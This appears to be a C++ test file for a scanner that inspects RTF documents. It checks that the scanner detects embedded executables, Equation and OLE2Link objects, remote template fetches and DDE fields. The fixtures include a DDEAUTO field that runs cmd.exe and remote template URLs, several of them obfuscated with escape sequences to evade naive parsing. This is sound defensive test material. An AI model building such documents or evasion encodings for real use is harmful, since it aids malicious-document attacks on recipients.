#include "inspect/ole1.h"
#include "inspect/rtf_reader.h"
#include "support/cfb_builder.h"
#include "support/inspected.h"
#include "support/zip_builder.h"

#include <catch2/catch.hpp>

using namespace keneki;
using namespace keneki::test;
using evidence::Finding;
using evidence::NotInspected;
using namespace std::string_literals;

namespace {

std::string hex(std::string_view bytes) {
    constexpr std::string_view digits = "0123456789abcdef";
    std::string out;
    for (const char c : bytes) {
        out += digits[static_cast<unsigned char>(c) >> 4U];
        out += digits[static_cast<unsigned char>(c) & 15U];
    }
    return out;
}

void put_text(std::string& out, std::string_view text) {
    put32(out, static_cast<std::uint32_t>(text.size() + 1));
    out += text;
    out += '\0';
}

/// An embedded OLE 1 object.
std::string ole1(std::string_view name, std::string_view data) {
    std::string out;
    put32(out, 0x0501);
    put32(out, 2);
    put_text(out, name);
    put32(out, 0);
    put32(out, 0);
    put32(out, static_cast<std::uint32_t>(data.size()));
    return out + std::string(data);
}

std::string ole1_link(std::string_view name, std::string_view target) {
    std::string out;
    put32(out, 0x0501);
    put32(out, 1);
    put_text(out, name);
    put_text(out, target);
    return out;
}

std::string package(std::string_view label, std::string_view data) {
    std::string out("\x02\0", 2);
    out += std::string(label) + '\0' + "C:\\" + std::string(label) + '\0' + "\0\0\x03\0"s;
    put_text(out, "C:\\tmp\\x");
    put32(out, static_cast<std::uint32_t>(data.size()));
    return out + std::string(data);
}

std::string rtf_with(std::string_view object_data, std::string_view words = "\\objemb") {
    return "{\\rtf1\\ansi {\\object" + std::string(words) + "{\\*\\objdata " +
           std::string(object_data) + "}{\\result text}}}";
}

inspect::RtfDocument read(std::string_view text) {
    return inspect::read_rtf(std::as_bytes(std::span(text)));
}

const std::string program = "MZ\x90\0"s + std::string(80, '\0');

} // namespace

TEST_CASE("the data of an RTF object is read as a parser would", "[inspect][rtf]") {
    const std::string data = ole1("Package", package("bill.exe", program));
    const std::string plain = hex(data);
    std::string spaced;
    for (const char digit : plain)
        spaced += std::string(1, digit) + "\r\n\t ";
    std::string upper = plain;
    for (char& c : upper)
        c = c >= 'a' ? static_cast<char>(c - 'a' + 'A') : c;
    const auto [name, written] = GENERATE_COPY(table<std::string, std::string>({
        {"plain", plain},
        {"upper case", upper},
        {"white space", spaced},
        {"control words between", plain.substr(0, 7) + "\\par\\b0\\i-5 " + plain.substr(7)},
        {"a group around", "{" + plain.substr(0, 9) + "}" + plain.substr(9)},
        {"an unknown destination between",
         plain.substr(0, 11) + "{\\*\\pnx 00ff{11}22}" + plain.substr(11)},
        {"\\bin without bytes",
         plain.substr(0, 13) + "\\bin" + plain.substr(13, 0) + "\\bin-3 " + plain.substr(13)},
        {"\\bin with bytes",
         plain.substr(0, 14) + "\\bin6 " + data.substr(7, 6) + plain.substr(26)},
        {"an odd digit at the end", plain + "7"},
    }));
    CAPTURE(name);
    const auto document = read(rtf_with(written));
    REQUIRE(document.objects.size() == 1);
    CHECK(document.objects[0].kind == "objemb");
    CHECK(document.objects[0].data == data);
    const auto evidence = inspected("見積.doc", rtf_with(written));
    CHECK(has(evidence, Finding::RTF_OBJECT, 1));
    CHECK(has(evidence, Finding::EXECUTABLE, 2));
    REQUIRE(evidence.parts_size() == 2);
    CHECK(evidence.parts(1).name() == "bill.exe");
}

TEST_CASE("quoted bytes count as data where only so an object comes out", "[inspect][rtf]") {
    const std::string plain = hex(ole1("Package", package("bill.exe", program)));
    const auto evidence = inspected("a.rtf", rtf_with("\\'" + plain.substr(0, 2) + "\\'" +
                                                      plain.substr(2, 2) + plain.substr(4)));
    CHECK(has(evidence, Finding::EXECUTABLE));
}

TEST_CASE("RTF objects are told apart by what they do", "[inspect][rtf]") {
    const std::string link_to_web =
        "\x00\x03\x00\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46"
        "\xE0\xC9\xEA\x79\xF9\xBA\xCE\x11\x8C\x82\x00\xAA\x00\x4B\xA9\x0B"s;
    struct Case {
        std::string name, rtf;
        bool dangerous;
    };
    const auto c = GENERATE_COPY(values<Case>({
        {"Equation", rtf_with(hex(ole1("Equation.3", "x"))), true},
        {"OLE2Link", rtf_with(hex(ole1("OLE2Link", "x"))), true},
        {"class only in the text", rtf_with("0105", "\\objemb{\\*\\objclass Equation.3}"), true},
        {"an odd class and an equation's id",
         rtf_with(
             hex(ole1("xyz", "\x02\xCE\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46"s))),
         true},
        {"a link to the web", rtf_with(hex(ole1("xyz", link_to_web))), true},
        {"a broken object that wants to be loaded", rtf_with("ffffffff11", "\\objemb\\objupdate"),
         true},
        {"Paintbrush", rtf_with(hex(ole1("PBrush", "BM"))), false},
        {"a worksheet",
         rtf_with(hex(ole1("Excel.Sheet.8", CfbBuilder().stream("Workbook", "x").build()))), false},
        {"hyperlinks in a document", rtf_with(hex(ole1("Word.Document.8", link_to_web.substr(16)))),
         false},
        {"a local link",
         rtf_with(hex(ole1_link("Excel.Sheet.8", "C:\\data\\a.xls")), "\\objautlink"), false},
    }));
    CAPTURE(c.name);
    const auto evidence = inspected("a.rtf", c.rtf);
    CAPTURE(words(evidence));
    CHECK(has(evidence, Finding::RTF_OBJECT, 1));
    CHECK(has(evidence, Finding::DANGEROUS_OBJECT, 1) == c.dangerous);
}

TEST_CASE("RTF that loads or starts something is named", "[inspect][rtf]") {
    struct Case {
        std::string rtf;
        Finding::Id id;
        bool found;
    };
    const auto c = GENERATE(values<Case>({
        {"{\\rtf1{\\*\\template http://192.0.2.1/a.dotm}}", Finding::OFFICE_EXTERNAL_TEMPLATE,
         true},
        {"{\\rtf1{\\*\\template \\'68ttp://192.0.2.1/a.dotm}}", Finding::OFFICE_EXTERNAL_TEMPLATE,
         true},
        {"{\\rtf1{\\*\\template \\u104?\\u116?\\u116?\\u112?://192.0.2.1/a}}",
         Finding::OFFICE_EXTERNAL_TEMPLATE, true},
        {"{\\rtf1{\\*\\template \\u-65432?\\u-65420?\\u65652?\\u112?\\u-65478 ?//192.0.2.1/a}}",
         Finding::OFFICE_EXTERNAL_TEMPLATE, true},
        {"{\\rtf1{\\*\\template\\uc0 \\u104\\u116\\u116\\u112 ://192.0.2.1/a}}",
         Finding::OFFICE_EXTERNAL_TEMPLATE, true},
        {"{\\rtf1\\uc2{\\*\\template {\\u104 hh\\u116\\'82\\'85t}p://192.0.2.1/a}}",
         Finding::OFFICE_EXTERNAL_TEMPLATE, true},
        {"{\\rtf1{\\field{\\*\\fldinst \\u-65468?\\u68?E cmd x}}}", Finding::OFFICE_DDE, true},
        {"{\\rtf1{\\*\\template \\u104?ello.dot}}", Finding::OFFICE_EXTERNAL_TEMPLATE, false},
        {"{\\rtf1{\\*\\template C:\\\\office\\\\normal.dot}}", Finding::OFFICE_EXTERNAL_TEMPLATE,
         false},
        {"{\\rtf1{\\field{\\*\\fldinst { DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe \"/k calc\" }}}}",
         Finding::OFFICE_DDE, true},
        {"{\\rtf1{\\field{\\*\\fldinst { D}{DE cmd}{ x}}}}", Finding::OFFICE_DDE, true},
        {"{\\rtf1{\\field{\\*\\fldinst { INCLUDETEXT \"http://192.0.2.1/a\" }}}}",
         Finding::OFFICE_EXTERNAL_TEMPLATE, true},
        {"{\\rtf1{\\field{\\*\\fldinst { INCLUDEPICTURE \"http://example.test/logo.png\" }}}}",
         Finding::OFFICE_EXTERNAL_TEMPLATE, false},
        {"{\\rtf1{\\field{\\*\\fldinst { HYPERLINK \"http://example.test/\" }}}}",
         Finding::OFFICE_EXTERNAL_TEMPLATE, false},
        {"{\\rtf1 The word DDEAUTO cmd in a text}", Finding::OFFICE_DDE, false},
    }));
    CAPTURE(c.rtf);
    const auto evidence = inspected("a.rtf", c.rtf);
    CAPTURE(words(evidence));
    CHECK(has(evidence, c.id) == c.found);
}

TEST_CASE("the limits of the RTF reader are named", "[inspect][rtf]") {
    const auto objects = [](std::size_t count) {
        std::string rtf = "{\\rtf1";
        for (std::size_t i = 0; i < count; ++i)
            rtf += "{\\object\\objemb{\\*\\objdata 01}}";
        return rtf + "}";
    };
    CHECK_FALSE(read(objects(inspect::rtf_object_limit)).over_limit);
    CHECK(read(objects(inspect::rtf_object_limit + 1)).over_limit);
    CHECK(read(objects(inspect::rtf_object_limit + 1)).objects.size() == inspect::rtf_object_limit);
    CHECK(unread(inspected("a.rtf", objects(inspect::rtf_object_limit + 1)),
                 NotInspected::OVER_LIMIT));

    const auto nested = [](std::size_t depth) {
        return "{\\rtf1" + std::string(depth - 1, '{') + "{\\object{\\*\\objdata 0102}}" +
               std::string(depth - 1, '}') + "}";
    };
    CHECK(read(nested(100)).objects.size() == 1);
    CHECK(read(nested(1'000'000)).over_limit);

    const std::string data = rtf_with("0102030405");
    const auto cut = [&](std::size_t limit) {
        return inspect::read_rtf(std::as_bytes(std::span(data)), limit);
    };
    CHECK(cut(5).objects[0].data == "\1\2\3\4\5");
    CHECK(cut(4).objects[0].data == "\1\2\3\4");
    CHECK(cut(4).over_limit);
    CHECK(cut(6).objects[0].data.size() == 5);
    CHECK_FALSE(cut(6).over_limit);
}

TEST_CASE("RTF cut off anywhere is read as far as it goes", "[inspect][rtf]") {
    const std::string whole =
        rtf_with(hex(ole1("Package", package("bill.exe", program))), "\\objemb\\objupdate");
    for (std::size_t size = 0; size < whole.size(); size += 7) {
        const auto evidence = inspected("a.rtf", std::string_view(whole).substr(0, size));
        CHECK_FALSE(has(evidence, Finding::INSPECTION_FAILED));
        if (size > 60) CHECK(has(evidence, Finding::RTF_OBJECT));
    }
}

TEST_CASE("OLE 1 objects are read within their bytes", "[inspect][rtf]") {
    const std::string data = ole1("Package", "12345");
    const auto object = inspect::read_ole1(std::as_bytes(std::span(data)));
    REQUIRE(object);
    CHECK(object->class_name == "Package");
    CHECK(object->data.size() == 5);
    for (std::size_t size = 0; size < data.size(); ++size) {
        const std::string cut = data.substr(0, size);
        const auto part = inspect::read_ole1(std::as_bytes(std::span(cut)));
        if (part) CHECK(part->data.size() <= 5);
    }
    const std::string long_name = data.substr(0, 8) + "\xFF\xFF\xFF\xFF"s + data.substr(12);
    CHECK_FALSE(inspect::read_ole1(std::as_bytes(std::span(long_name))));
}
